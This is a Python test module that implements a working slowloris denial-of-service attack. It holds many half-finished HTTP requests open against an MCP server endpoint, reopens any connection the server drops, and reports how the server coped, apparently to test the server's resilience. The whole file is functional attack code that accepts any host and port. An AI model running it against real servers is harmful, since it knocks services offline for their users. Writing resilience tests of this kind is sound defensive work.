"""A slowloris, as a stranger on the LAN runs it: many connections from one address, each sending
a request head a line at a time and never finishing it; a connection the server closes is opened
again on the next round, as the tool does. Run in its own process (it needs more descriptors than
the agent under test may have)::

    python -m tests.mcp.slowloris HOST PORT --source 127.0.0.3 --connections 1200 --seconds 8

It prints what it saw as JSON: connections opened, connects that failed, connections the server
closed and the longest the server held one (seconds), and how many were open at the end.
"""

from __future__ import annotations

import argparse
import contextlib
import errno
import json
import resource
import selectors
import socket
import time


class Slowloris:
    """Connections opened without waiting (a connect the server's queue drops is retried by the
    kernel, as it would be), their closes noticed as they happen."""

    def __init__(self, host: str, port: int, source: str, connections: int):
        self.target = (host, port)
        self.source = source
        self.connections = connections
        self.head = (f"POST /mcp HTTP/1.1\r\nHost: {host}:{port}\r\n"
                     "Content-Type: application/json\r\n").encode()
        self.selector = selectors.DefaultSelector()
        self.connecting: set[socket.socket] = set()
        self.opened_at: dict[socket.socket, float] = {}
        self.stats = {"opened": 0, "connect_failed": 0, "closed_by_server": 0, "longest_held": 0.0}

    def open(self) -> None:
        sock = socket.socket()
        sock.setblocking(False)
        sock.bind((self.source, 0))
        if sock.connect_ex(self.target) not in (0, errno.EINPROGRESS):
            self.stats["connect_failed"] += 1
            sock.close()
            return
        self.connecting.add(sock)
        self.selector.register(sock, selectors.EVENT_WRITE)

    def connected(self, sock: socket.socket) -> None:
        self.connecting.discard(sock)
        self.selector.unregister(sock)
        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            self.stats["connect_failed"] += 1
            sock.close()
            return
        try:
            sock.send(self.head)
        except OSError:
            self.stats["connect_failed"] += 1
            sock.close()
            return
        self.selector.register(sock, selectors.EVENT_READ)
        self.opened_at[sock] = time.monotonic()
        self.stats["opened"] += 1

    def closed(self, sock: socket.socket) -> None:
        held = time.monotonic() - self.opened_at.pop(sock)
        self.stats["closed_by_server"] += 1
        self.stats["longest_held"] = max(self.stats["longest_held"], round(held, 3))
        self.selector.unregister(sock)
        sock.close()

    def handle(self, timeout: float) -> None:
        for key, _ in self.selector.select(timeout):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            if sock in self.connecting:
                self.connected(sock)
                continue
            try:
                gone = sock.recv(4096) == b""
            except OSError:
                gone = True
            if gone:
                self.closed(sock)

    def trickle(self, line: bytes) -> None:
        for sock in list(self.opened_at):
            try:
                sock.send(line)
            except BlockingIOError:
                pass
            except OSError:
                self.closed(sock)

    def run(self, seconds: float, interval: float) -> dict[str, object]:
        start = time.monotonic()
        end, rounds = start + seconds, 0
        while (now := time.monotonic()) < end:
            if now >= start + rounds * interval:  # a round: a line each, the closed reopened
                self.trickle(f"X-Slow-{rounds}: {rounds}\r\n".encode())
                for _ in range(self.connections - len(self.opened_at) - len(self.connecting)):
                    self.open()
                rounds += 1
            self.handle(0.01)
        return {**self.stats, "open_at_end": len(self.opened_at)}

    def close(self) -> None:
        for sock in [*self.opened_at, *self.connecting]:
            with contextlib.suppress(OSError):
                sock.close()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--source", default="127.0.0.3")
    parser.add_argument("--connections", type=int, default=1200)
    parser.add_argument("--seconds", type=float, default=8.0)
    parser.add_argument("--interval", type=float, default=0.5)
    args = parser.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = Slowloris(args.host, args.port, args.source, args.connections)
    try:
        print(json.dumps(attack.run(args.seconds, args.interval)), flush=True)
    finally:
        attack.close()


if __name__ == "__main__":
    main()
